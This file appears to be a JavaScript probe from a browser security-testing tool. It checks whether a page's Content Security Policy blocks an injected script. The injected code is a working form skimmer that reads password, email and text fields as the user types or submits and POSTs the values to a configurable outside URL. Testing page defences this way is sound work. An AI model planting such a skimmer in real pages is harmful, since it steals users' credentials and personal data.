// Puts a script into the page as an attacker's markup would come in: without a nonce, so that it
// runs, and sends, only what the page's own policy lets it.
(settings, {tell, ticket, on, later, append, define}) => {
    // Milliseconds after which a page that draws itself is expected to have done so.
    const SETTLED = 1500;
    const attack = (target, selector, given) => {
        "use strict";
        const {fetch: ask} = window, {told, ticket, on, later} = window[given];
        delete window[given];
        const usual = ["input[type=password]", "input[type=email]", "input:not([type]), input[type=text]", "textarea", "input[type=search]"];
        const state = {found: false, reached: false, why: ""};
        const post = (pairs, proof) => ask(proof ? `${target}?t=${encodeURIComponent(proof)}` : target, {method: "POST", mode: "no-cors", credentials: "omit", keepalive: true, body: new URLSearchParams(pairs)});
        const field = () => {
            if (selector) return document.querySelector(selector);
            return usual.map((one) => document.querySelector(one)).find((it) => it) || null;
        };
        let sent = "";
        const take = (proof) => {
            const from = field();
            if (!from || !from.value || from.value === sent) return;
            sent = from.value;
            post([[from.name || from.id || from.type, sent]], proof).catch(() => {});
        };
        const look = () => {
            try {
                state.found = state.found || field() !== null;
            } catch (error) {
                state.why = "selector";
                told(state);
                return;
            }
            if (state.found) told(state);
            else later(look, 100);
        };
        look();
        if (!state.why) {
            for (const kind of ["change", "submit"]) on(document, kind, (event) => take(ticket(event)), true);
            on(document, "input", (event) => {
                const proof = ticket(event);
                later(() => take(proof), 500);
            }, true);
        }
        post([]).then(() => {
            state.reached = true;
            told(state);
        }, () => {
            state.why = state.why || "connect-src";
            told(state);
        });
        told(state);
    };
    let state = null, why = "script-src";
    const script = document.createElement("script");
    const given = [settings.target, settings.selector, settings.given].map((it) => JSON.stringify(it));
    const told = (now) => {
        state = now;
        if (state.found && state.reached) tell("shown");
    };
    try {
        script.textContent = `(${attack})(${given})`;
        const {head} = document, value = {told, ticket: (event) => ticket("collected", event), on, later};
        // No other script runs in between, which could take what this one is given.
        define(window, settings.given, {__proto__: null, value, configurable: true});
        append(head, script);
    } catch (error) {
        why = "trusted-types";
    }
    delete window[settings.given];
    script.remove();
    later(() => {
        if (!state) tell("nothing", null, why);
        else if (state.why || !state.found) tell("nothing", null, state.why || "no-field");
    }, SETTLED);
}
